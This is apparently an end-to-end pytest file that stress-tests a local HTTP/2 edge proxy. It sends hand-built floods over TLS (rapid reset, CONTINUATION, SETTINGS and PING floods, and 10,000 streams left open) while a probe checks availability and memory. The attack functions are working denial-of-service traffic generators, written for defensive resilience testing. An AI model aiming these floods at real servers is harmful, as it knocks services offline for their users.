"""HTTP/2 abuse against the edge, frames written by hand over TLS (ALPN h2).

Rapid reset (streams opened and RST_STREAM'd at once), a CONTINUATION flood (a HEADERS without
END_HEADERS followed by endless CONTINUATION frames), a SETTINGS flood, a PING flood (read and
unread), and 10,000 streams opened on one connection and left open. Each attack is bounded in
frames and seconds. During each one a second client keeps making ordinary HTTPS requests (a new
handshake each); the edge must stay up, its RSS stay bounded, the probe succeed at >= 95 %
during the attack and 100 % after it. What the edge did to the abusive connection (GOAWAY and its
code, RST_STREAM codes, close) is printed.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import threading
import time
from collections import Counter

import pytest
from h2.errors import ErrorCodes
from hpack import Decoder, Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame)

from e2e_lib import LOOPBACK, backend_objects
from edge_support import Pki, SniHTTPSConnection, cert_secret, client_context, edge_ingress, start_edge
from rel_support import RssSampler

HOST = "abuse.example.com"
ATTACK_SECONDS = 5.0            # bound on each attack (reconnecting after each close)
RSS_GROWTH_LIMIT_MIB = 200
PROBE_RATIO = 0.95
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def code_name(code: int) -> str:
    try:
        return ErrorCodes(code).name
    except ValueError:
        return f"0x{code:x}"


class RawH2:
    """One TLS connection speaking HTTP/2 frame by frame. Single-threaded: after each batch sent,
    whatever the server sent back is drained without blocking (unless ``read=False``)."""

    def __init__(self, port: int, cafile: str, *, read: bool = True):
        ctx = client_context(cafile, alpn=["h2"])
        raw = socket.create_connection((LOOPBACK, port), timeout=5)
        self.sock = ctx.wrap_socket(raw, server_hostname=HOST)
        assert self.sock.selected_alpn_protocol() == "h2", self.sock.selected_alpn_protocol()
        self.read = read
        self.enc, self.dec = Encoder(), Decoder()
        self.buf = b""
        self.frames: Counter = Counter()
        self.rst: Counter = Counter()
        self.statuses: Counter = Counter()
        self.goaway: tuple[str, int, bytes] | None = None
        self.closed: str | None = None       # how the connection ended, if it did
        self.server_settings: dict = {}
        self.send_error: str | None = None
        self.sent_bytes = 0
        self._hblock: dict[int, bytes] = {}
        self.send(PREFACE + SettingsFrame(0).serialize())

    # -- sending
    def send(self, data: bytes) -> bool:
        """False once the connection is unusable (closed, reset, or the server stopped reading
        for 5 s)."""
        if self.closed or self.send_error:
            return False
        try:
            self.sock.settimeout(5)
            self.sock.sendall(data)
            self.sent_bytes += len(data)
        except (socket.timeout, TimeoutError):
            self.send_error = "send blocked 5 s (server not reading)"
            return False
        except (OSError, ssl.SSLError) as e:
            self.send_error = f"{type(e).__name__}: {e}"
            return False
        if self.read:
            self.drain(0)
        return not self.closed

    def request_headers(self, sid: int, path: str, method: str = "GET") -> bytes:
        return self.enc.encode([(":method", method), (":scheme", "https"), (":authority", HOST), (":path", path)])

    # -- receiving
    def drain(self, wait: float) -> None:
        """Read and parse what the server sent; block up to ``wait`` s for the first bytes."""
        deadline = time.monotonic() + wait
        while not self.closed:
            try:
                self.sock.settimeout(max(0.0, deadline - time.monotonic()) or 0.0)
                chunk = self.sock.recv(262144)
            except (ssl.SSLWantReadError, BlockingIOError, socket.timeout, TimeoutError):
                return
            except (OSError, ssl.SSLError) as e:
                self.closed = f"{type(e).__name__}: {e}"
                return
            if not chunk:
                self.closed = "EOF (TCP closed by the edge)"
                return
            self.buf += chunk
            self._parse()
            deadline = time.monotonic()  # got data: keep reading only what is already there

    def _parse(self) -> None:
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(self.buf[9:9 + length]))
            self.buf = self.buf[9 + length:]
            self.frames[type(frame).__name__] += 1
            if isinstance(frame, GoAwayFrame):
                self.goaway = (code_name(frame.error_code), frame.last_stream_id, bytes(frame.additional_data))
            elif isinstance(frame, RstStreamFrame):
                self.rst[code_name(frame.error_code)] += 1
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                self.server_settings.update(frame.settings)
                with contextlib.suppress(Exception):
                    self.sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
            elif isinstance(frame, (HeadersFrame, ContinuationFrame)):
                block = self._hblock.pop(frame.stream_id, b"") + frame.data
                if "END_HEADERS" in frame.flags:
                    for k, v in self.dec.decode(block, raw=True):
                        if k == b":status":
                            self.statuses[v.decode()] += 1
                else:
                    self._hblock[frame.stream_id] = block

    def wait_closed(self, timeout: float) -> None:
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline:
            self.drain(0.2)

    def close(self) -> None:
        with contextlib.suppress(Exception):
            self.sock.close()

    def outcome(self) -> str:
        parts = []
        if self.goaway:
            code, last, debug = self.goaway
            parts.append(f"GOAWAY {code} last_stream={last}" + (f" debug={debug[:80]!r}" if debug else ""))
        if self.rst:
            parts.append(f"RST_STREAM {dict(self.rst)}")
        if self.statuses:
            parts.append(f"responses {dict(self.statuses)}")
        parts.append(f"closed: {self.closed}" if self.closed else "connection still open")
        if self.send_error:
            parts.append(f"send: {self.send_error}")
        return "; ".join(parts)


class Probe(threading.Thread):
    """Ordinary client: one GET per fresh TLS connection, every 20 ms, bounded."""

    def __init__(self, port: int, cafile: str, max_seconds: float, max_requests: int = 5000):
        super().__init__(daemon=True)
        self.port, self.ctx = port, client_context(cafile)
        self.max_seconds, self.max_requests = max_seconds, max_requests
        self.stop_event = threading.Event()
        self.ok = 0
        self.failures: list[str] = []

    def once(self) -> bool:
        conn = SniHTTPSConnection(HOST, self.port, self.ctx, timeout=5)
        try:
            status, body = conn.get("/probe")
            if status == 200 and b'"service":"echo"' in body.replace(b" ", b""):
                return True
            self.failures.append(f"status {status} {body[:100]!r}")
        except Exception as e:  # noqa: BLE001
            self.failures.append(f"{type(e).__name__}: {e}")
        finally:
            conn.close()
        return False

    def run(self) -> None:
        t0 = time.monotonic()
        n = 0
        while not self.stop_event.is_set() and time.monotonic() - t0 < self.max_seconds and n < self.max_requests:
            n += 1
            if self.once():
                self.ok += 1
            time.sleep(0.02)

    @property
    def total(self) -> int:
        return self.ok + len(self.failures)


# --------------------------------------------------------------------------- attacks
# Each attack function writes on one connection until the edge stops it or ``budget`` units
# (streams / frames) are sent or the deadline passes, and returns the units sent. The driver
# reconnects and repeats, as a real attacker would, until ATTACK_SECONDS or the total budget.


def rapid_reset(h: RawH2, budget: int, deadline: float) -> int:
    """HEADERS (GET, END_STREAM) immediately followed by RST_STREAM(CANCEL), 100 streams a batch."""
    sid, n = 1, 0
    while n < budget and time.monotonic() < deadline:
        batch = bytearray()
        for _ in range(100):
            batch += HeadersFrame(sid, h.request_headers(sid, f"/rr/{sid}"),
                                  flags=["END_HEADERS", "END_STREAM"]).serialize()
            batch += RstStreamFrame(sid, error_code=ErrorCodes.CANCEL).serialize()
            sid += 2
            n += 1
        if not h.send(bytes(batch)):
            break
    return n


def continuation_flood(h: RawH2, budget: int, deadline: float) -> int:
    """A HEADERS without END_HEADERS, then CONTINUATION frames of one ~1 KiB header each, never
    ending."""
    h.send(HeadersFrame(1, h.request_headers(1, "/cont"), flags=["END_STREAM"]).serialize())
    n = 0
    value = "v" * 1000
    while n < budget and time.monotonic() < deadline:
        batch = bytearray()
        for _ in range(50):
            block = h.enc.encode([NeverIndexedHeaderTuple(f"x-flood-{n}", value)])
            batch += ContinuationFrame(1, block).serialize()
            n += 1
        if not h.send(bytes(batch)):
            break
    return n


def settings_flood(h: RawH2, budget: int, deadline: float) -> int:
    n = 0
    frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535,
                                       SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()
    while n < budget and time.monotonic() < deadline:
        if not h.send(frame * 500):
            break
        n += 500
    return n


def ping_flood(h: RawH2, budget: int, deadline: float) -> int:
    n = 0
    while n < budget and time.monotonic() < deadline:
        batch = b"".join(PingFrame(0, opaque_data=(n + i).to_bytes(8, "big")).serialize() for i in range(500))
        if not h.send(batch):
            break
        n += 500
    return n


def open_streams(h: RawH2, budget: int, deadline: float) -> int:
    """POST streams opened (HEADERS without END_STREAM) and left open, 200 a batch; then a little
    DATA on the first stream to see whether the connection still works."""
    sid, n = 1, 0
    while n < budget and time.monotonic() < deadline:
        batch = bytearray()
        for _ in range(200):
            batch += HeadersFrame(sid, h.request_headers(sid, f"/open/{sid}", "POST"),
                                  flags=["END_HEADERS"]).serialize()
            sid += 2
            n += 1
        if not h.send(bytes(batch)):
            break
    h.send(DataFrame(1, b"hello", flags=["END_STREAM"]).serialize())
    return n


# name: (function, units, budget per connection, total budget, read while sending)
ATTACKS = {
    "rapid-reset": (rapid_reset, "streams reset", 20_000, 200_000, True),
    "continuation-flood": (continuation_flood, "CONTINUATION frames", 20_000, 200_000, True),
    "settings-flood": (settings_flood, "SETTINGS frames", 200_000, 1_000_000, True),
    "ping-flood": (ping_flood, "PING frames", 200_000, 1_000_000, True),
    "ping-flood-unread": (ping_flood, "PING frames (answers never read)", 200_000, 1_000_000, False),
    "10k-streams": (open_streams, "streams opened and left open", 10_000, 100_000, True),
}
MAX_CONNECTIONS = 400


@pytest.fixture(scope="module")
def abuse_edge(module_env):
    pki = Pki(module_env.work_dir / "pki")
    cert = pki.leaf("abuse", [HOST])
    echo = module_env.echo("echo")
    edge = start_edge(module_env, {
        "backend.yaml": backend_objects("echo", [echo]),
        "ingress.yaml": edge_ingress("abuse", [([HOST], "abuse-tls")], "echo"),
        "secret.yaml": cert_secret("abuse-tls", cert),
    })
    return edge, pki


def summarize(outcomes: Counter) -> str:
    return "; ".join(f"{n}x [{o}]" for o, n in outcomes.most_common(4))


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_h2_abuse(abuse_edge, attack):
    edge, pki = abuse_edge
    fn, units, per_conn, total, read = ATTACKS[attack]
    rss = RssSampler(edge.proc.pid)
    rss.start()
    probe = Probe(edge.https_port, pki.ca_path, max_seconds=ATTACK_SECONDS + 15)
    probe.start()
    time.sleep(0.2)
    outcomes: Counter = Counter()
    frames: Counter = Counter()
    settings: dict = {}
    sent = conns = 0
    t0 = time.monotonic()
    deadline = t0 + ATTACK_SECONDS
    try:
        while time.monotonic() < deadline and sent < total and conns < MAX_CONNECTIONS:
            h = RawH2(edge.https_port, pki.ca_path, read=read)
            conns += 1
            try:
                sent += fn(h, min(per_conn, total - sent), deadline)
                h.read = True
                h.wait_closed(0.5)   # what the edge does once the flood stops
            finally:
                h.close()
            outcomes[h.outcome()] += 1
            frames.update(h.frames)
            settings.update(h.server_settings)
        attack_s = time.monotonic() - t0
    finally:
        probe.stop_event.set()
        probe.join(timeout=20)
    during = (probe.ok, probe.total, list(probe.failures))
    time.sleep(1.0)
    after_probe = Probe(edge.https_port, pki.ca_path, max_seconds=30, max_requests=20)
    after_probe.run()
    rss.stop()
    before, peak, after = rss.first_kib / 1024, rss.peak_kib / 1024, rss.last_kib / 1024
    print(f"\n[{attack}] {sent} {units} written on {conns} connections in {attack_s:.1f} s (counting what was "
          f"written before the edge's close was noticed); server SETTINGS {settings}")
    print(f"  the edge's answers: {summarize(outcomes)}")
    print(f"  frames from the edge: {dict(frames)}")
    print(f"  edge RSS before {before:.1f} MiB, peak {peak:.1f} MiB, after {after:.1f} MiB; "
          f"probe during {during[0]}/{during[1]}, after {after_probe.ok}/{after_probe.total}")
    assert edge.proc.alive(), f"edge died during {attack}\n{edge.describe()}"
    assert peak - before < RSS_GROWTH_LIMIT_MIB, f"RSS grew {peak - before:.0f} MiB during {attack}"
    assert during[1] >= 20, f"probe barely ran during the attack: {during[1]} requests"
    assert during[0] >= PROBE_RATIO * during[1], f"probe during {attack}: {during[0]}/{during[1]}; {during[2][:5]}"
    assert after_probe.ok == after_probe.total == 20, f"probe after {attack}: {after_probe.failures[:5]}"
